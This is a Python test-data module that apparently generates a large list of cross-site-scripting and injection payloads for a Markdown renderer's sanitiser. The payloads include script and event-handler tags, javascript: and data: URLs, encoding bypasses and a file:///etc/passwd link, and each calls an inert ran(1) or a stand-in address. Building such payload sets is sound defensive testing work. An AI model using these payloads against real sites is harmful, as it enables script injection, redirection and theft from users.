"""Texts made to run a script, to load from elsewhere or to lead a reader away, each calling `ran` where it succeeds.

The forms are those of well-known collections, in words of our own. `ELSEWHERE` is an address that nothing may ask for.
"""

from itertools import chain

ELSEWHERE = "//elsewhere.example/x"
RUN = "ran(1)"

_HANDLERS = (
    "onmouseover", "onclick", "onfocus", "onerror", "onload", "ontoggle", "onpointerenter", "onanimationstart", "onkeydown",
    "onbeforeinput", "oncontentvisibilityautostatechange", "onscrollend", "ONCLICK", "on\u017fcroll",
)  # fmt: skip
_CARRIERS = {
    "a link": "[а](/news/){{{0}}}",
    "a link with a brace in a quoted value": '[а](/news/){{{0} title="ә}}"}}',
    "an image": "![а](a.jpg){{{0}}}",
    "emphasis": "**а**{{: {0}}}",
    "code": "`а`{{: {0}}}",
    "a heading": "## а {{: {0}}}",
    "a paragraph": "а\n{{: {0} tabindex=0 autofocus}}",
    "a list item": "- а\n{{: {0}}}",
    "a cell": "| а {{: {0}}} |\n|---|",
    "a language span": "[а]{{lang=ru}}{{{0}}}",
}
_ATTRIBUTES = (
    f"style=background:url({ELSEWHERE})", "style=position:fixed;inset:0", f"ping={ELSEWHERE}", f"src={ELSEWHERE}",
    f"srcset={ELSEWHERE}", f"background={ELSEWHERE}", f"href=javascript:{RUN}", f"formaction=javascript:{RUN}",
    "srcdoc=<script>ran(1)</script>", f"data={ELSEWHERE}", "target=_blank", "contenteditable=true", f"xlink:href={ELSEWHERE}",
    "is=x-a", "slot=a", "popover=auto", "name=cookie", f"poster={ELSEWHERE}", f"action={ELSEWHERE}", "http-equiv=refresh",
)  # fmt: skip
_TAGS = (
    f"<script>{RUN}</script>", f"<SCRIPT>{RUN}</SCRIPT>", f"<script src={ELSEWHERE}></script>", f"<scr\nipt>{RUN}</script>",
    f"<img src=x onerror={RUN}>", f"<img src=x onerror={RUN}//", f"<img/src=x/onerror={RUN}>", f"<img src={ELSEWHERE}>",
    f"<svg onload={RUN}>", f"<svg><script>{RUN}</script></svg>", f"<svg><a xlink:href=javascript:{RUN}><text>а</text></a></svg>",
    f"<svg><use href={ELSEWHERE}#a></use></svg>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><image href={ELSEWHERE}></image></svg>", f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<iframe src={ELSEWHERE}></iframe>", "<iframe srcdoc='<script>parent.ran(1)</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>", f"<object data={ELSEWHERE}></object>", f"<embed src={ELSEWHERE}>",
    f"<base href={ELSEWHERE}>", f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<meta http-equiv=refresh content=0;url=javascript:{RUN}>", f"<link rel=stylesheet href={ELSEWHERE}>",
    f"<link rel=prefetch href={ELSEWHERE}>", f"<style>@import '{ELSEWHERE}';</style>",
    "<style>body{display:none}</style>", f"<form action={ELSEWHERE}><button autofocus>а</button></form>",
    f"<form><button formaction=javascript:{RUN}>а</button></form>", f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>", f"<textarea autofocus onfocus={RUN}>", f"<keygen autofocus onfocus={RUN}>",
    f"<video src={ELSEWHERE} autoplay></video>", f"<video><source onerror={RUN}></video>", f"<audio src=x onerror={RUN}>",
    f"<details open ontoggle={RUN}><summary>а</summary></details>", f"<marquee onstart={RUN}>а</marquee>",
    f"<body onload={RUN}>", f"<div style='background:url({ELSEWHERE})'>а</div>", f"<div onclick={RUN}>а</div>",
    f"<a href=javascript:{RUN}>а</a>", f"<a href='java&#9;script:{RUN}'>а</a>", f"<x onclick={RUN}>а</x>",
    f"<https:x onfocus={RUN} tabindex=0 autofocus>", f"<mailto:x onfocus={RUN} tabindex=0 autofocus>",
    f"<a@b onfocus={RUN} tabindex=0 autofocus>", f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>", f"<textarea></textarea><img src=x onerror={RUN}>",
    f"<title></title><script>{RUN}</script>", f"<xmp><script>{RUN}</script></xmp>", f"<plaintext><script>{RUN}",
    f"<!--><img src=x onerror={RUN}>-->", f"<!-- --!><img src=x onerror={RUN}> -->", f"<![CDATA[><img src=x onerror={RUN}>]]>",
    f"<?xml-stylesheet href={ELSEWHERE}?>", f"<!DOCTYPE x SYSTEM '{ELSEWHERE}'>", f"</p><script>{RUN}</script>",
    f"<\u017fcript>{RUN}</\u017fcript>", f"<script\x0c>{RUN}</script>", f"<script/x>{RUN}</script>", f"\\<script>{RUN}</script>",
    f"&lt;script>{RUN}</script>", f"<<script>{RUN}</script>", f"<img src=`x`onerror={RUN}>", f"<portal src={ELSEWHERE}>",
    f"<frameset onload={RUN}>", f"<table background={ELSEWHERE}><tr><td>а</table>", f"<input type=image src={ELSEWHERE}>",
    f"<bgsound src={ELSEWHERE}>", f"<dialog open onclose={RUN}>а</dialog>", f"<div popover id=a onbeforetoggle={RUN}>",
)  # fmt: skip
_ADDRESSES = (
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"&#106;avascript:{RUN}", f"&#x6A;avascript:{RUN}",
    f"javascript&colon;{RUN}", f"java&Tab;script:{RUN}", f"java&NewLine;script:{RUN}", f"&#1;javascript:{RUN}",
    f"\u200bjavascript:{RUN}", f"\u00a0javascript:{RUN}", f"javascript://x/%0a{RUN}", f"vbscript:{RUN}", f"livescript:{RUN}",
    "data:text/html,<script>ran(1)</script>", "data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=", "DATA:text/html,x",
    "blob:https://x/1", "file:///etc/passwd", "view-source:https://x.kz", "intent://x#Intent;end", "filesystem:http://x/a",
    f"&amp;#106;avascript:{RUN}", f"x:javascript:{RUN}", f"\\javascript:{RUN}", f"feed:javascript:{RUN}",
)  # fmt: skip
_LINKS = (
    "[а]({0})", "[а](<{0}>)", '[а]({0} "б")', "![а]({0})", "[а][б]\n\n[б]: {0}", "![а][б]\n\n[б]: <{0}>", "<{0}>",
)  # fmt: skip
_ODD = (
    f"`а\r<script>{RUN}</script>`", "`а\r\r<iframe srcdoc='<script>parent.ran(1)</script>'>`", f"`а\r<base href={ELSEWHERE}>`",
    f"а\r<meta http-equiv=refresh content='0;url={ELSEWHERE}'>", f"- а\r  <script>{RUN}</script>",
    f'[а](/b/ "б\\" onmouseover={RUN} x=")', f"[а](/b/ 'б\" onmouseover=\"{RUN}')", f'![а" onerror="{RUN}](a.jpg)',
    f"![а](a.jpg' onerror='{RUN})", f'[а](</b" onmouseover="{RUN}>)', f"## а {{#б\" onclick=\"{RUN}}}", f"[а](/b/)<b {{onclick={RUN}}}",
    f"[<script>{RUN}</script>](/b/)", f"![<script>{RUN}</script>](a.jpg)", f"**<script>{RUN}</script>**", f"# <script>{RUN}</script>",
    f"| <script>{RUN}</script> |\n|---|", f"> <script>{RUN}</script>", f"    <script>{RUN}</script>", f"```\n<script>{RUN}</script>\n```",
    f"```html\n</code></pre><script>{RUN}</script>\n```", f"[a]: <script>{RUN}</script>\n\n[a]", f"<a@b.kz{RUN}>",
    f"\x02wzxhzdk:0\x03<script>{RUN}</script>", f"\x02klzzwxh:0000\x03<img src=x onerror={RUN}>", f"\x01/x/\x01<script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;", f"[TOC]\n\n# <img src=x onerror={RUN}>",
    "一" + f"<script>{RUN}</script>", f"[а]{{lang=ru\" onclick=\"{RUN}}}", f"[а]{{lang=<script>{RUN}</script>}}",
    f"## а {{: data-toc-label='<script>{RUN}</script>'}}", f"а\n:   <script>{RUN}</script>",
)  # fmt: skip

_ALL = (
    *(
        carrier.format(f"{handler}={RUN}")
        for handler in _HANDLERS
        for carrier in ("[а](/news/){{{0}}}", "## а {{: {0}}}")
    ),
    *(carrier.format(f"onclick={RUN}") for carrier in _CARRIERS.values()),
    *(f"[а](/news/){{{attribute}}}" for attribute in _ATTRIBUTES),
    *(f"![а](a.jpg){{: {attribute}}}" for attribute in _ATTRIBUTES),
    *chain.from_iterable((tag, f"сөз {tag}") for tag in _TAGS),
    *(link.format(address) for address in _ADDRESSES for link in _LINKS),
    *(
        f"![а]({address})"
        for address in (f"https:{ELSEWHERE}", ELSEWHERE, f"\\{ELSEWHERE}", f"HTTP:{ELSEWHERE}", f"&#47;{ELSEWHERE[1:]}")
    ),
    *_ODD,
)
PAYLOADS: tuple[str, ...] = tuple(dict.fromkeys(_ALL))
